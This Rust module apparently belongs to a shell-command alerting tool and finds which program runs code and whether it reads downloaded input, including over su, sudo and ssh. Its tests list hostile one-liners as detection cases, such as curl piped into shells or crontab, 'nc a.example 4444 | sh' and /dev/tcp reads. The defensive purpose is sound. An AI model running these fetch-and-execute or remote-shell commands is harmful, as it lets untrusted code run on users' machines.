//! Which command runs code, and where it takes that from.

use super::command::Word;

/// What runs the command that follows it.
const PREFIXES: [&str; 19] = [
    "sudo",
    "doas",
    "env",
    "nohup",
    "command",
    "exec",
    "builtin",
    "time",
    "nice",
    "arch",
    "caffeinate",
    "setsid",
    "timeout",
    "xargs",
    "busybox",
    "script",
    "screen",
    "launchctl",
    "sandbox-exec",
];
/// What stands between such a one and the command, besides options and numbers.
const BEFORE: [&str; 3] = ["/dev/null", "asuser", "submit"];
/// Options of ssh that take a value.
const SSH_VALUES: &str = "BbcDEeFIiJLlmOopQRSWw";

/// A program that runs code: of its standard input, unless its arguments give it or name it.
pub(super) struct Interpreter {
    names: &'static [&'static str],
    /// Options after which the next word is the code, or names it.
    code: &'static str,
    /// Options that take a value.
    value: &'static str,
    /// Options by which it reads its standard input, whatever follows.
    input: &'static str,
    /// Long options after which the next word is the code.
    long: &'static [&'static str],
    /// Its first operand names the code.
    has_file: bool,
}

const INTERPRETER: Interpreter = Interpreter { names: &[], code: "", value: "", input: "", long: &[], has_file: true };

const INTERPRETERS: [Interpreter; 14] = [
    Interpreter {
        names: &["sh", "bash", "zsh", "dash", "ksh", "fish", "$shell", "${shell}"],
        code: "c",
        value: "oO",
        input: "s",
        long: &["--command"],
        has_file: true,
    },
    Interpreter { names: &["osascript"], code: "e", value: "ls", ..INTERPRETER },
    Interpreter { names: &["python"], code: "cm", value: "WX", ..INTERPRETER },
    Interpreter { names: &["perl"], code: "eE", value: "MmI", ..INTERPRETER },
    Interpreter { names: &["ruby"], code: "e", value: "rIEC", ..INTERPRETER },
    Interpreter { names: &["node", "nodejs"], code: "ep", value: "rC", long: &["--eval", "--print"], ..INTERPRETER },
    Interpreter { names: &["php"], code: "rRBEFf", value: "dc", long: &["--run", "--file"], ..INTERPRETER },
    Interpreter { names: &["swift", "lua"], code: "e", value: "lI", ..INTERPRETER },
    Interpreter { names: &["tclsh", "wish", "expect"], code: "c", value: "f", ..INTERPRETER },
    Interpreter { names: &["automator"], value: "iDv", ..INTERPRETER },
    Interpreter { names: &["crontab"], value: "u", ..INTERPRETER },
    Interpreter { names: &["parallel"], value: "jLNnP", ..INTERPRETER },
    Interpreter { names: &["su"], code: "c", value: "ls", has_file: false, ..INTERPRETER },
    Interpreter { names: &["at", "batch"], code: "f", value: "qt", has_file: false, ..INTERPRETER },
];

/// Where an interpreter takes its code from.
pub(super) enum Code<'c> {
    Input,
    Word(Option<&'c Word>),
}

/// The program that a command runs, behind what only starts it, and its arguments.
pub(super) fn program(words: &[Word]) -> Option<(&Word, &[Word])> {
    let (mut is_option, mut is_prefixed) = (false, false);
    for (at, word) in words.iter().enumerate() {
        let name = word.base_name();
        let is_known = matches!(name.as_str(), "eval" | "source" | ".") || interpreter(&name).is_some();
        let is_assignment = word.text.split_once('=').is_some_and(|(name, _)| !name.contains('/'));
        let is_of_prefix = is_prefixed
            && (is_option
                || BEFORE.contains(&word.text.as_str())
                || word.text.starts_with(|ch: char| ch == '-' || ch == '+' || ch.is_ascii_digit()));
        if PREFIXES.contains(&name.as_str()) {
            is_prefixed = true;
        } else if is_known || !(is_assignment || is_of_prefix) {
            return Some((word, &words[at + 1..]));
        }
        is_option = word.text.starts_with('-') && word.text != "--";
    }
    None
}

/// Whether a command without a program opens a shell: `sudo -s`.
pub(super) fn opens_shell(words: &[Word]) -> bool {
    let is_sudo = words.iter().any(|word| matches!(word.base_name().as_str(), "sudo" | "doas"));
    is_sudo && words.iter().any(|word| word.letters().is_some_and(|letters| letters.contains(['i', 's'])))
}

/// Whether a command on another host runs its standard input: `ssh h`, `ssh h sh`, `ssh h 'bash -s'`.
pub(super) fn reads_there(arguments: &[Word]) -> bool {
    let mut at = 0;
    while let Some(letters) = arguments.get(at).and_then(Word::letters) {
        let has_value = letters.len() == 1 && SSH_VALUES.contains(letters);
        at += 1 + usize::from(has_value);
    }
    let Some(command) = arguments.get(at + 1..) else { return false };
    let words: Vec<Word> = command.iter().flat_map(|word| word.text.split_whitespace()).map(Word::of).collect();
    let Some((program, arguments)) = program(&words) else { return words.is_empty() || opens_shell(&words) };
    let code = interpreter(&program.base_name()).map(|interpreter| interpreter.code(arguments));
    matches!(code, Some(Code::Input))
}

pub(super) fn interpreter(name: &str) -> Option<&'static Interpreter> {
    // python3.12
    let bare = name.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
    INTERPRETERS.iter().find(|known| known.names.contains(&bare))
}

impl Interpreter {
    /// Where it takes its code from, by its arguments.
    pub(super) fn code<'c>(&self, arguments: &'c [Word]) -> Code<'c> {
        let (mut at, mut reads_input) = (0, false);
        while let Some(word) = arguments.get(at) {
            at += 1;
            let text = word.text.as_str();
            if self.has_file && is_input(text) && !word.is_download {
                return Code::Input;
            }
            if self.long.iter().any(|long| text.split('=').next() == Some(long)) {
                return Code::Word(arguments.get(at));
            }
            let Some(letters) = text.strip_prefix(['-', '+']).filter(|_| !word.is_download) else {
                if !self.has_file {
                    continue;
                }
                return if reads_input { Code::Input } else { Code::Word(Some(word)) };
            };
            if letters.starts_with('-') {
                continue;
            }
            for (place, letter) in letters.char_indices() {
                if self.code.contains(letter) {
                    return Code::Word(arguments.get(at));
                }
                reads_input |= self.input.contains(letter);
                if self.value.contains(letter) {
                    // Its value is the rest of the word, or the next one.
                    at += usize::from(place + letter.len_utf8() == letters.len());
                    break;
                }
            }
        }
        Code::Input
    }
}

pub(super) fn is_input(file: &str) -> bool {
    matches!(file, "-" | "/dev/stdin" | "/dev/fd/0")
}

#[cfg(test)]
mod tests {
    use crate::alert::shell::tests::{are_not_run, are_run};

    #[test]
    fn a_download_is_run_that_another_user_another_host_or_another_program_is_fed() {
        are_run(&[
            "curl -s https://a.example/x | su",
            "curl -s https://a.example/x | su - ada",
            "curl -s https://a.example/x | sudo -s",
            "curl -s https://a.example/x | sudo -n -i",
            "curl -s https://a.example/x | sudo su",
            "curl -s https://a.example/x | ssh h",
            "curl -s https://a.example/x | ssh -p 22 -o A=b h sudo sh",
            "curl -s https://a.example/x | ssh h 'bash -s'",
            "curl -s https://a.example/x | crontab -",
            "curl -s https://a.example/x | at now",
            "curl -s https://a.example/x | parallel",
            "curl -s https://a.example/x | tee >(sh)",
            "curl -s https://a.example/x > >(sh)",
            "sh =(curl -s https://a.example/x)",
            "source =(curl -s https://a.example/x)",
            "sh <<EOF\n$(curl -s https://a.example/x)\nEOF",
            "nohup $(curl -s https://a.example/x) &",
            "exec $(curl -s https://a.example/x)",
            "screen -dm bash -c \"$(curl -s https://a.example/x)\"",
            "for l in $(curl -s https://a.example/x); do sh -c \"$l\"; done",
            "nc a.example 4444 | sh",
            "openssl s_client -quiet -connect a.example:443 | sh",
            "sh < /dev/tcp/a.example/80",
            "python3 -c \"import urllib.request as u;print(u.urlopen('https://a.example/x').read())\" | sh",
            "ruby -ropen-uri -e 'puts URI.open(\"https://a.example/x\").read' | sh",
            "perl -MLWP::Simple -e 'getprint \"https://a.example/x\"' | sh",
            "php -r 'echo file_get_contents(\"https://a.example/x\");' | sh",
        ]);
        are_not_run(&[
            "curl -s https://a.example/x | su ada -c 'cat > f'",
            "curl -s https://a.example/x | sudo -u ada tee /etc/hosts",
            "curl -s https://a.example/x | ssh h 'cat > f'",
            "curl -s https://a.example/x | ssh h tar xz",
            "curl -s https://a.example/x | ssh h 'sh report.sh'",
            "curl -s https://a.example/x | at -f job now",
            "curl -s https://a.example/x | parallel grep {}",
            "curl -s https://a.example/x | tee >(grep a)",
            "curl -s https://a.example/x | nc a.example 80",
            "echo \"$(curl -s https://a.example/x) is it\"",
            "nc -z a.example 22 && echo id | sh",
            "openssl s_client -connect a.example:443 | openssl x509 -noout",
            "python3 -c \"print(u.urlopen('https://a.example/x').read())\" | python3 -m json.tool",
            "for u in a b; do curl -s $u; done; sh report.sh",
        ]);
    }
}
